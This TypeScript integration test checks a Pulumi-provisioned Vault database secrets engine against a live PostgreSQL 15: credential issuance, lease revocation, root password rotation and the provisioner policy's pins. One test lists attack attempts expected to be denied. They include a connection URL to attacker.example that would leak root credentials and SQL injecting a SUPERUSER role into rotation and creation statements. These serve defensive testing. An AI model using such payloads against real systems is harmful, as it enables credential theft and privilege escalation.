/**
 * The database secrets engine through the real engine (localUp: the Pulumi CLI, the Vault provider
 * stand-in, a real Vault with the generated provisioner policy) against a real PostgreSQL 15 started
 * here: the consumer granted the role reads credentials with its own token, logs in with them, and the
 * revoked lease takes the user away; the root password Vault rotated is no longer the configured one, yet
 * Vault keeps issuing; a second up changes and rotates nothing; the provisioner's pins hold on the real
 * server; the documented way to replace the root password (set it on the database, then in the config)
 * rotates again.
 */
import { strict as assert } from "assert";
import * as fs from "fs";
import { ConfigKey } from "../../config";
import { engineLayout, stateFile } from "../../local/engine";
import { LOCAL_STACK, localDown, LocalUp, localUp } from "../../local/localStack";
import { localLayout } from "../../local/localServers";
import { vaultCall, vaultRequest } from "../../local/vaultHttp";
import { PostgresLogin, PostgresServer, randomPassword, startPostgres } from "./postgres";
import { localStackRun, provisionerLogin } from "./localStackRun";

const PASSPHRASE = "live-database-passphrase";
const DATABASE = "app";
const ROOT_USER = "vault_root";
const ROLE = "app-readonly";
const CREATION = [
  `CREATE ROLE "{{name}}" WITH LOGIN PASSWORD '{{password}}' VALID UNTIL '{{expiration}}';`,
  `GRANT SELECT ON ALL TABLES IN SCHEMA public TO "{{name}}";`,
];
const REVOCATION = [`REVOKE ALL PRIVILEGES ON ALL TABLES IN SCHEMA public FROM "{{name}}";`, `DROP ROLE IF EXISTS "{{name}}";`];

describe("live: the database secrets engine (PostgreSQL 15) through the Pulumi engine", function () {
  let root: string;
  let postgres: PostgresServer;
  let overrides: Partial<Record<ConfigKey, unknown>>;
  let up: LocalUp;
  const configuredPassword = randomPassword();
  const observed: Record<string, string> = {};
  const endpoint = () => up.servers.vault.endpoint;
  const asRoot = () => ({ token: up.servers.vault.rootToken });
  const consumerToken = (name: string) => ({ token: (up.outputs.tokens?.value as Record<string, string>)[name] });
  const inApp = (login: Omit<PostgresLogin, "database">): PostgresLogin => ({ ...login, database: DATABASE });
  const start = (secrets: Record<string, string>) => localUp({ root, passphrase: PASSPHRASE, overrides: { ...overrides, secrets } });
  const databaseSteps = (result: LocalUp) => result.steps.filter((step) => step.name.startsWith("vault-config-database-")).map((step) => `${step.op} ${step.name}`).sort();
  /** Credentials of the role, read with a token; the lease is revoked by `revoke`. */
  const readCredentials = async (token: { token: string }) => {
    const answer = await vaultRequest(endpoint(), "GET", `database/creds/${ROLE}`, token);
    return { status: answer.status, leaseId: answer.body?.lease_id as string, login: { user: answer.body?.data?.username as string, password: answer.body?.data?.password as string } };
  };
  const revoke = (leaseId: string) => vaultCall(endpoint(), "PUT", "sys/leases/revoke", { ...asRoot(), body: { lease_id: leaseId } });
  const roleExists = (user: string) => postgres.query(postgres.superuser, `select count(*) from pg_roles where rolname = '${user}'`).output === "1";

  before(async function () {
    this.timeout(300_000);
    const started = Date.now();
    postgres = await startPostgres();
    observed.postgresStart = `${((Date.now() - started) / 1000).toFixed(1)} s`;
    // Vault's root user: may create and drop roles, owns the table the role grants; not a superuser.
    for (const sql of [
      `create database ${DATABASE}`,
      `create role ${ROOT_USER} with login createrole password '${configuredPassword}'`,
    ]) assert.ok(postgres.query(postgres.superuser, sql).ok, sql);
    for (const sql of ["create table orders (id int primary key, item text)", "insert into orders values (1, 'tea')", `alter table orders owner to ${ROOT_USER}`]) {
      assert.ok(postgres.query(inApp(postgres.superuser), sql).ok, sql);
    }

    const run = await localStackRun("database-stack");
    root = run.root;
    overrides = {
      ...run.overrides,
      mounts: [{ path: "kv", version: 1 }],
      consumers: [
        { name: "orders", policy: "tenant", token: { ttl: "1h" }, grants: { database: [ROLE] } },
        { name: "billing", policy: "tenant", token: { ttl: "1h" } },
      ],
      engines: {
        database: {
          path: "database",
          connections: [{
            name: DATABASE, plugin: "postgresql", username: ROOT_USER, passwordSecret: "appDbRoot",
            connectionUrl: `postgresql://{{username}}:{{password}}@127.0.0.1:${postgres.port}/${DATABASE}?sslmode=disable`,
            roles: [{ name: ROLE, creationStatements: CREATION, revocationStatements: REVOCATION, defaultTtl: "10m", maxTtl: "1h" }],
          }],
        },
      },
    };
    up = await start({ appDbRoot: configuredPassword });
    observed.firstUp = `${up.seconds.toFixed(1)} s (${up.steps.length} resources, ${databaseSteps(up).length} of the engine)`;
  });

  after(async function () {
    this.timeout(60_000);
    if (root) await localDown(root);
    if (postgres) await postgres.stop();
    console.log(`database engine: ${Object.entries(observed).map(([key, value]) => `${key}: ${value}`).join("; ") || "nothing measured"}`);
  });

  it("created the mount, the connection, its root rotation and the role, with the provisioner's token", () => {
    assert.deepEqual(databaseSteps(up), [
      "create vault-config-database-app",
      `create vault-config-database-app-${ROLE}`,
      "create vault-config-database-app-rotate-root",
      "create vault-config-database-database",
    ]);
    const rotation = up.calls.filter((call) => call.path === `database/rotate-root/${DATABASE}`);
    assert.deepEqual(rotation.map((call) => `${call.phase} ${call.method} ${call.status}`), ["create PUT 204"]);
  });

  it("gives the granted consumer credentials with its own token, and another consumer 403", async () => {
    const granted = await readCredentials(consumerToken("orders"));
    assert.equal(granted.status, 200);
    assert.match(granted.login.user, /^v-token-/);
    assert.equal((await readCredentials(consumerToken("billing"))).status, 403);
    await revoke(granted.leaseId);
  });

  it("issues a PostgreSQL login that works until its lease is revoked, then the user is gone", async () => {
    const { status, leaseId, login } = await readCredentials(consumerToken("orders"));
    assert.equal(status, 200);
    const session = postgres.query(inApp(login), "select current_user, item from orders");
    assert.ok(session.ok, session.output);
    assert.equal(session.output, `${login.user}|tea`);
    assert.ok(roleExists(login.user));
    await revoke(leaseId);
    const after = postgres.query(inApp(login), "select 1");
    assert.ok(!after.ok);
    assert.match(after.output, /password authentication failed|role .* does not exist/);
    assert.ok(!roleExists(login.user), "the revoked user is still in pg_roles");
  });

  it("rotated the root password: the configured one no longer logs in, yet Vault keeps issuing", async () => {
    const configured = postgres.query(inApp({ user: ROOT_USER, password: configuredPassword }), "select 1");
    assert.ok(!configured.ok);
    assert.match(configured.output, /password authentication failed for user "vault_root"/);
    const { status, leaseId, login } = await readCredentials(consumerToken("orders"));
    assert.equal(status, 200);
    assert.ok(postgres.query(inApp(login), "select 1").ok);
    await revoke(leaseId);
  });

  it("keeps the configured password out of the state in clear", () => {
    const state = fs.readFileSync(stateFile(engineLayout(root), LOCAL_STACK), "utf8");
    assert.ok(!state.includes(configuredPassword), "the root password is in the state in clear");
  });

  it("holds the provisioner to the declarations on the real server: no other database, SQL, rotation statements or delete", async () => {
    const token = { token: await provisionerLogin(localLayout(root), endpoint()) };
    const connection = `database/config/${DATABASE}`;
    const declared = { plugin_name: "postgresql-database-plugin", connection_url: (overrides.engines as any).database.connections[0].connectionUrl, username: ROOT_USER, allowed_roles: ROLE };
    const attempts: Array<[string, string, Record<string, unknown> | undefined]> = [
      ["PUT", connection, { ...declared, connection_url: "postgresql://{{username}}:{{password}}@attacker.example:5432/app" }],
      ["PUT", connection, { ...declared, username: "postgres" }],
      ["PUT", connection, { ...declared, allowed_roles: "*" }],
      ["PUT", connection, { ...declared, root_rotation_statements: ["ALTER ROLE \"{{username}}\" WITH PASSWORD '{{password}}'; CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'"] }],
      ["PUT", connection, { ...declared, password_policy: "weak" }],
      ["PUT", `database/roles/${ROLE}`, { db_name: DATABASE, creation_statements: ["CREATE ROLE \"{{name}}\" WITH SUPERUSER LOGIN PASSWORD '{{password}}'"] }],
      ["PUT", `database/roles/${ROLE}`, { db_name: DATABASE, creation_statements: CREATION, renew_statements: ["ALTER ROLE \"{{name}}\" SUPERUSER"] }],
      ["PUT", `database/roles/${ROLE}`, { db_name: "other", creation_statements: CREATION }],
      ["PUT", "database/roles/extra", { db_name: DATABASE, creation_statements: CREATION }],
      ["DELETE", connection, undefined],
      ["DELETE", "sys/mounts/database", undefined],
      ["GET", `database/creds/${ROLE}`, undefined],
    ];
    const answers = await Promise.all(attempts.map(async ([method, apiPath, body]) => `${method} ${apiPath} ${JSON.stringify(body ?? {})} -> ${(await vaultRequest(endpoint(), method, apiPath, { ...token, body })).status}`));
    assert.deepEqual(answers.filter((answer) => !answer.endsWith("-> 403")), []);
    // The declared values pass: the pins are not closed doors (the connection keeps the password Vault rotated).
    assert.equal((await vaultRequest(endpoint(), "PUT", `database/roles/${ROLE}`, { ...token, body: { db_name: DATABASE, creation_statements: CREATION, revocation_statements: REVOCATION } })).status, 204);
    assert.equal((await vaultRequest(endpoint(), "PUT", connection, { ...token, body: declared })).status, 204);
    assert.equal((await readCredentials(consumerToken("orders"))).status, 200);
  });

  it("a second up changes nothing and does not rotate again; preview and refresh agree", async function () {
    this.timeout(300_000);
    const again = await start({ appDbRoot: configuredPassword });
    observed.secondUp = `${again.seconds.toFixed(1)} s`;
    assert.deepEqual(again.steps.filter((step) => step.op !== "same").map((step) => `${step.op} ${step.name}`), []);
    assert.deepEqual(again.calls.filter((call) => ["create", "update", "delete"].includes(call.phase)), []);
    await again.stack.refresh({ color: "never" });
    const preview = await again.stack.preview({ expectNoChanges: true, color: "never" });
    assert.deepEqual(Object.keys(preview.changeSummary).filter((op) => op !== "same"), []);
    up = again;
  });

  it("a root password set again (on the database, then in the config) is written once and rotated again", async function () {
    this.timeout(300_000);
    const replaced = randomPassword();
    assert.ok(postgres.query(inApp(postgres.superuser), `alter role ${ROOT_USER} with password '${replaced}'`).ok);
    const next = await start({ appDbRoot: replaced });
    observed.passwordReplaced = `${next.seconds.toFixed(1)} s`;
    assert.deepEqual(databaseSteps(next).filter((step) => !step.startsWith("same ")), [
      "replace vault-config-database-app-rotate-root",
      "update vault-config-database-app",
    ]);
    assert.ok(!postgres.query(inApp({ user: ROOT_USER, password: replaced }), "select 1").ok, "the new password was not rotated");
    up = next;
    const { status, leaseId, login } = await readCredentials(consumerToken("orders"));
    assert.equal(status, 200);
    assert.ok(postgres.query(inApp(login), "select 1").ok);
    await revoke(leaseId);
  });
});
